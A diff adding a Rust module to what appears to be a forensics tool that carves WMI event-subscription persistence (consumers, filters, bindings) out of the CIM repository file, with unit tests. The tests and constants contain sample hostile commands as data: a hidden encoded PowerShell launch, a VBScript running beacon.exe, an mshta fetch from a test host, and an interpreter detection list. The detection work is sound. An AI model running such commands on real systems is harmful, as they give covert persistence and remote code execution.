@@ -0,0 +1,275 @@
+//! WMI permanent event subscriptions recovered from the CIM repository (OBJECTS.DATA).
+//!
+//! Instance records in OBJECTS.DATA are keyed by hashes of class and key names, so this
+//! works by carving strings, as common DFIR tooling does: a __FilterToConsumerBinding
+//! stores its two references in clear text (`CommandLineEventConsumer.Name="x"` and
+//! `__EventFilter.Name="y"`), and the consumer/filter instances keep their property
+//! strings (CommandLineTemplate, ScriptText, Query, ...) right after their Name.
+//! Deleted-but-not-overwritten records can therefore also show up.
+
+use regex::Regex;
+use std::collections::BTreeSet;
+
+/// Strings carved from the repository are considered related within this many bytes.
+const WINDOW_BYTES: usize = 4096;
+const WINDOW_STRINGS: usize = 16;
+const MIN_STRING: usize = 3;
+
+#[derive(Debug, Clone, Default)]
+pub struct WmiSubscription {
+    /// CommandLineEventConsumer or ActiveScriptEventConsumer
+    pub consumer_class: String,
+    pub consumer_name: String,
+    pub filter_name: Option<String>,
+    pub query: Option<String>,
+    pub command_line: Option<String>,
+    pub script_engine: Option<String>,
+    pub script_text: Option<String>,
+}
+
+struct Carved {
+    offset: usize,
+    text: String,
+}
+
+/// Subscriptions whose consumer runs code (command line or script).
+pub fn carve_subscriptions(data: &[u8]) -> Vec<WmiSubscription> {
+    let strings = carve_strings(data);
+    let consumer_ref = Regex::new(r#"(CommandLineEventConsumer|ActiveScriptEventConsumer)\.Name=\\?"([^"\\]+)\\?""#)
+        .expect("valid consumer regex");
+    let filter_ref = Regex::new(r#"__EventFilter\.Name=\\?"([^"\\]+)\\?""#).expect("valid filter regex");
+    let query_re = Regex::new(r"(?is)^\s*select\s.+\sfrom\s").expect("valid query regex");
+
+    let mut seen = BTreeSet::new();
+    let mut out = vec![];
+
+    for (i, s) in strings.iter().enumerate() {
+        let Some(c) = consumer_ref.captures(&s.text) else { continue };
+        let consumer_class = c[1].to_string();
+        let consumer_name = c[2].to_string();
+
+        let filter_name = neighbours(&strings, i)
+            .find_map(|n| filter_ref.captures(&n.text).map(|f| f[1].to_string()));
+
+        if !seen.insert((consumer_class.clone(), consumer_name.clone(), filter_name.clone())) {
+            continue;
+        }
+
+        let mut sub = WmiSubscription {
+            consumer_class,
+            consumer_name,
+            filter_name,
+            ..Default::default()
+        };
+
+        if let Some(filter) = sub.filter_name.clone() {
+            sub.query = after_name(&strings, &filter).find_map(|window| {
+                window.iter().find(|n| query_re.is_match(&n.text)).map(|n| n.text.clone())
+            });
+        }
+
+        if sub.consumer_class == "CommandLineEventConsumer" {
+            sub.command_line = after_name(&strings, &sub.consumer_name)
+                .find_map(|window| window.iter().find(|n| looks_like_command(&n.text)).map(|n| n.text.clone()));
+        } else {
+            for window in after_name(&strings, &sub.consumer_name) {
+                let engine = window
+                    .iter()
+                    .find(|n| n.text.eq_ignore_ascii_case("VBScript") || n.text.eq_ignore_ascii_case("JScript"));
+                let Some(engine) = engine else { continue };
+                sub.script_engine = Some(engine.text.clone());
+                sub.script_text = window
+                    .iter()
+                    .filter(|n| n.text != engine.text && n.text != sub.consumer_name && n.text.len() > 10)
+                    .max_by_key(|n| n.text.len())
+                    .map(|n| n.text.clone());
+                break;
+            }
+        }
+
+        out.push(sub);
+    }
+
+    out
+}
+
+/// Strings near index `i` (both directions) within the correlation window.
+fn neighbours(strings: &[Carved], i: usize) -> impl Iterator<Item = &Carved> {
+    let origin = strings[i].offset;
+    let lo = i.saturating_sub(WINDOW_STRINGS);
+    let hi = (i + WINDOW_STRINGS + 1).min(strings.len());
+    strings[lo..hi]
+        .iter()
+        .filter(move |s| s.offset.abs_diff(origin) <= WINDOW_BYTES)
+}
+
+/// For each occurrence of exactly `name`, the strings that follow it within the window.
+fn after_name<'a>(strings: &'a [Carved], name: &'a str) -> impl Iterator<Item = &'a [Carved]> {
+    strings.iter().enumerate().filter(move |(_, s)| s.text == name).map(move |(i, s)| {
+        let mut end = i + 1;
+        while end < strings.len() && end <= i + WINDOW_STRINGS && strings[end].offset - s.offset <= WINDOW_BYTES {
+            end += 1;
+        }
+        &strings[i + 1..end]
+    })
+}
+
+/// Extensions of files a CommandLineTemplate can start
+const PROGRAM_EXTENSIONS: &[&str] = &[".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta"];
+/// Programs commonly given without a path or extension
+const INTERPRETERS: &[&str] = &[
+    "cmd", "powershell", "pwsh", "rundll32", "regsvr32", "mshta", "wscript", "cscript", "msiexec",
+];
+/// Strings stored next to consumer names that contain backslashes but are not commands:
+/// WMI namespaces and object paths, registry keys
+const NOT_COMMANDS: &[&str] = &["\\\\.\\root", "root\\", "hkey_", "hklm\\", "hkcu\\", "\\registry\\"];
+
+/// A CommandLineTemplate names a program: a token ending in a program extension, or a
+/// well-known interpreter. A backslash alone is not enough.
+fn looks_like_command(s: &str) -> bool {
+    let l = s.trim().trim_start_matches('"').to_ascii_lowercase();
+    if NOT_COMMANDS.iter().any(|p| l.starts_with(p)) || l.contains(".name=") {
+        return false;
+    }
+    l.split(|c: char| c.is_whitespace() || c == '"').any(|t| {
+        let file = t.rsplit(['\\', '/']).next().unwrap_or(t);
+        PROGRAM_EXTENSIONS.iter().any(|ext| file.len() > ext.len() && file.ends_with(ext))
+            || INTERPRETERS.contains(&file)
+    })
+}
+
+/// Printable ASCII and UTF-16LE runs, ordered by offset.
+fn carve_strings(data: &[u8]) -> Vec<Carved> {
+    let mut out = vec![];
+
+    let mut start = None;
+    for (i, &b) in data.iter().enumerate() {
+        let printable = (0x20..0x7f).contains(&b) || b == b'\t' || b == b'\r' || b == b'\n';
+        match (printable, start) {
+            (true, None) => start = Some(i),
+            (false, Some(st)) => {
+                if i - st >= MIN_STRING {
+                    out.push(Carved { offset: st, text: String::from_utf8_lossy(&data[st..i]).to_string() });
+                }
+                start = None;
+            }
+            _ => {}
+        }
+    }
+    if let Some(st) = start {
+        if data.len() - st >= MIN_STRING {
+            out.push(Carved { offset: st, text: String::from_utf8_lossy(&data[st..]).to_string() });
+        }
+    }
+
+    for parity in 0..2 {
+        let mut i = parity;
+        let mut run: Vec<u16> = vec![];
+        let mut run_start = i;
+        while i + 1 < data.len() {
+            let unit = u16::from_le_bytes([data[i], data[i + 1]]);
+            // Latin-1 only: wider ranges turn arbitrary binary into plausible-looking text
+            let printable = (0x20..0x7f).contains(&unit) || (0xa0..0x100).contains(&unit) || unit == 0x09;
+            if printable {
+                if run.is_empty() {
+                    run_start = i;
+                }
+                run.push(unit);
+            } else {
+                if run.len() >= MIN_STRING {
+                    out.push(Carved { offset: run_start, text: String::from_utf16_lossy(&run) });
+                }
+                run.clear();
+            }
+            i += 2;
+        }
+        if run.len() >= MIN_STRING {
+            out.push(Carved { offset: run_start, text: String::from_utf16_lossy(&run) });
+        }
+    }
+
+    out.sort_by_key(|c| c.offset);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // Generated by tests/fixtures/make_fixtures.py
+    const COMMANDLINE_CONSUMER: &[u8] = include_bytes!("../../tests/fixtures/wmi/commandline_consumer.bin");
+    const ACTIVE_SCRIPT_CONSUMER: &[u8] = include_bytes!("../../tests/fixtures/wmi/active_script_consumer.bin");
+    const FILTER_BINDING: &[u8] = include_bytes!("../../tests/fixtures/wmi/filter_binding.bin");
+    const UNBOUND_CONSUMER: &[u8] = include_bytes!("../../tests/fixtures/wmi/unbound_consumer.bin");
+
+    #[test]
+    fn command_line_consumer() {
+        let subs = carve_subscriptions(COMMANDLINE_CONSUMER);
+        assert_eq!(subs.len(), 1);
+        let sub = &subs[0];
+        assert_eq!(sub.consumer_class, "CommandLineEventConsumer");
+        assert_eq!(sub.consumer_name, "Updater");
+        assert_eq!(sub.filter_name.as_deref(), Some("UptimeTrigger"));
+        assert!(sub.query.as_deref().is_some_and(|q| q.starts_with("SELECT * FROM __InstanceModificationEvent")));
+        // The namespace and registry key stored before it are skipped
+        assert_eq!(
+            sub.command_line.as_deref(),
+            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc SQBFAFgA")
+        );
+        assert_eq!((sub.script_engine.as_deref(), sub.script_text.as_deref()), (None, None));
+    }
+
+    #[test]
+    fn active_script_consumer() {
+        let subs = carve_subscriptions(ACTIVE_SCRIPT_CONSUMER);
+        assert_eq!(subs.len(), 1);
+        let sub = &subs[0];
+        assert_eq!(sub.consumer_class, "ActiveScriptEventConsumer");
+        assert_eq!(sub.consumer_name, "Beacon");
+        assert_eq!(sub.filter_name.as_deref(), Some("LogonTrigger"));
+        assert_eq!(sub.script_engine.as_deref(), Some("VBScript"));
+        assert!(sub.script_text.as_deref().is_some_and(|t| t.contains(r#"s.Run "C:\ProgramData\beacon.exe""#)));
+        assert_eq!(sub.command_line, None);
+    }
+
+    #[test]
+    fn utf16_filter_and_binding() {
+        // The NTEventLogEventConsumer binding runs no code and is not reported
+        let subs = carve_subscriptions(FILTER_BINDING);
+        assert_eq!(subs.len(), 1);
+        let sub = &subs[0];
+        assert_eq!(sub.consumer_name, "Sync");
+        assert_eq!(sub.filter_name.as_deref(), Some("Every5Min"));
+        assert_eq!(sub.query.as_deref(), Some("SELECT * FROM __TimerEvent WHERE TimerID = 'Every5Min'"));
+        assert_eq!(sub.command_line.as_deref(), Some(r"cmd.exe /c C:\Tools\sync.bat"));
+    }
+
+    #[test]
+    fn unbound_consumers_are_not_reported() {
+        assert!(carve_subscriptions(UNBOUND_CONSUMER).is_empty());
+        assert!(carve_subscriptions(&[]).is_empty());
+    }
+
+    #[test]
+    fn commands_name_a_program() {
+        for s in [
+            r"C:\Windows\System32\cmd.exe /c echo",
+            r#""C:\Program Files\x\run.bat" -q"#,
+            "powershell -nop -enc AAAA",
+            r"mshta http://example.test/a.hta",
+            "wscript.exe //B C:\\ProgramData\\a.vbs",
+        ] {
+            assert!(looks_like_command(s), "{}", s);
+        }
+        for s in [
+            r"\\.\root\subscription",
+            r"root\cimv2",
+            r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft",
+            r#"\\HOST\ROOT\subscription:__EventFilter.Name="x""#,
+            r"C:\Windows\System32",
+            r"C:\data\settings.json",
+        ] {
+            assert!(!looks_like_command(s), "{}", s);
+        }
+    }
+}